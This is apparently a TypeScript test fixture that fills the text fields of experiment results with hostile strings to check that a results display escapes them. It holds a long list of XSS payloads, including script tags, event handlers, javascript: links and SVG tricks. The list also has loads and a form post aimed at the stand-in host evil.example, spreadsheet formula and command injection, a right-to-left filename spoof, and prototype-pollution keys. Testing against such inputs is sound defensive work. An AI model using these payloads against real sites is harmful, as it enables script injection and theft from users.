/** Names and texts that attack whoever shows them: markup, attributes, styles, links, controls, directions, formulas. */
import type { ExperimentResults } from "../../lab/results/index.ts"
import { sampleResults } from "./sample-results.ts"

/** Each tries to call `stolen()` or to load http://evil.example/. */
export const attacks: readonly string[] = [
  `<script>stolen()</script>`,
  `"><script>stolen()</script>`,
  `'><script>stolen()</script>`,
  `</title><script>stolen()</script>`,
  `</style><script>stolen()</script>`,
  `</text><script>stolen()</script>`,
  `</svg><script>stolen()</script>`,
  `--><script>stolen()</script>`,
  `]]><script>stolen()</script>`,
  `<SCRIPT SRC=http://evil.example/x.js></SCRIPT>`,
  `<scr<script>ipt>stolen()</scr</script>ipt>`,
  `<img src=x onerror=stolen()>`,
  `"><img src=http://evil.example/x onerror=stolen()>`,
  `<img src="javascript:stolen()">`,
  `<img/src/onerror=stolen()>`,
  `<svg onload=stolen()>`,
  `<svg/onload=stolen()//`,
  `<svg><animate onbegin=stolen() attributeName=x dur=1s>`,
  `<svg><set attributeName=href to=javascript:stolen()>`,
  `<svg><foreignObject><iframe src=http://evil.example/></iframe></foreignObject></svg>`,
  `<svg><use href="http://evil.example/x.svg#a"/></svg>`,
  `<svg><image href="http://evil.example/x.png"/></svg>`,
  `<svg><style>@import url(http://evil.example/x.css)</style></svg>`,
  `<a href="javascript:stolen()">click</a>`,
  `javascript:stolen()`,
  `" onmouseover="stolen()`,
  `' onmouseover='stolen()`,
  "` onmouseover=`stolen()",
  `" autofocus onfocus="stolen()" tabindex="1`,
  `x" style="background:url(http://evil.example/x)`,
  `<div style="background:url(http://evil.example/x)">`,
  `<style>*{background:url(http://evil.example/x)}</style>`,
  `<link rel=stylesheet href=http://evil.example/x.css>`,
  `<link rel=prefetch href=http://evil.example/>`,
  `<meta http-equiv=refresh content="0;url=http://evil.example/">`,
  `<base href=http://evil.example/>`,
  `<iframe src=http://evil.example/></iframe>`,
  `<iframe srcdoc="<script>parent.stolen()</script>">`,
  `<object data=http://evil.example/></object>`,
  `<embed src=http://evil.example/>`,
  `<video src=http://evil.example/x onerror=stolen()></video>`,
  `<audio src=x onerror=stolen()>`,
  `<body onload=stolen()>`,
  `<details open ontoggle=stolen()>`,
  `<input autofocus onfocus=stolen()>`,
  `<form action=http://evil.example/><button>go</button></form>`,
  `<math><mtext></form><form><mglyph><style></math><img src=x onerror=stolen()>`,
  `<noscript><p title="</noscript><img src=x onerror=stolen()>">`,
  `<template><script>stolen()</script></template>`,
  `&lt;script&gt;stolen()&lt;/script&gt;`,
  `&#60;script&#62;stolen()&#60;/script&#62;`,
  `\\x3cscript\\x3estolen()\\x3c/script\\x3e`,
  `{{constructor.constructor('stolen()')()}}`,
  "${stolen()}",
  `datum.constructor.constructor('stolen()')()`,
  `signal' + stolen() + '`,
  `=HYPERLINK("http://evil.example/","click")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `[click](javascript:stolen())`,
  `![x](http://evil.example/x.png)`,
  `| a | b |\n| --- | --- |`,
  "\u202egnp.exe\u202c",
  "\u2066\u2067\u2069\u200f\u200b\ufeff",
  "a\u0000b\u0007c\u001b[31md\u001b[0m\u009b",
  "line\none\r\ntwo\u2028three\u2029four",
  "\ud800 lone \udfff",
  "\ufffe\uffff",
  "שלום עולם مرحبا",
  "👩\u200d👩\u200d👧 z̷̡̛̤͓̈́a̸l̵g̶o̷",
  `<script>${"x".repeat(10_000)}</script>`,
  "   ",
  "",
  "__proto__",
  "constructor",
]

/** Results in which every text that a user or a trace can set is an attack, all of them at least once. */
export function hostileResults(): ExperimentResults {
  let next = 0
  const attack = () => attacks[next++ % attacks.length]
  const policies = Array.from({ length: 3 }, attack)
  const roles = Array.from({ length: attacks.length - 3 }, attack)
  const sample = sampleResults({ policies, roles, seeds: 3, bins: 12, failures: [[policies[2], 2]] })
  const all = attacks.join("\n")
  return {
    ...sample,
    question: all,
    command: all,
    version: attack(),
    workload: { ...sample.workload, name: `${attack()} ${attack()}`, provenance: all, card: attacks },
    trials: sample.trials.map((trial) => ({
      ...trial,
      repeat: all,
      ...(trial.error === null ? { digest: attack() } : { error: all }),
    })),
    comparisons: sample.comparisons.map((row, i) => ({
      ...row,
      metric: i % 3 === 0 ? attack() : row.metric,
      unit: i % 3 === 0 ? attack() : row.unit,
      verdict: i % 5 === 0 ? attack() : row.verdict,
    })),
  }
}
